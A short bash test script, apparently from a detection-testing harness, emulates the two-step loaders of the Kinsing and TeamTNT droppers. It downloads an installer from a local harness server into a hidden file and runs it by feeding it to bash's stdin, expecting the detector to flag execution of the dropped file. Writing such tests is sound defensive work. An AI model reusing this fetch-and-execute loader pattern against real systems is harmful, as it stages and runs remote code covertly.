#!/bin/bash
# technique: T1105 Ingress Tool Transfer + T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: two-step loaders that keep `| sh` and a script operand off every command line: the installer is saved to a hidden file, then fed to a shell's stdin (`curl -so /tmp/.x URL && bash < /tmp/.x`), as Kinsing's and TeamTNT's droppers stage their scripts
# expect: dropped-file-executed ^bash$
# exec-borne: yes
#
# The installer served by the harness creates the marker file.
set -u

command -v curl >/dev/null 2>&1 || { echo "curl not installed" >&2; exit 77; }

stage="${BW_ATTACK_TMP:?}/.ICE-unix-cache"
trap 'rm -f "$stage"' EXIT

fetch() {
	curl -fsS -o "$stage" "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh"
}

if fetch; then
	bash < "$stage"
else
	echo "download failed" >&2
	exit 1
fi
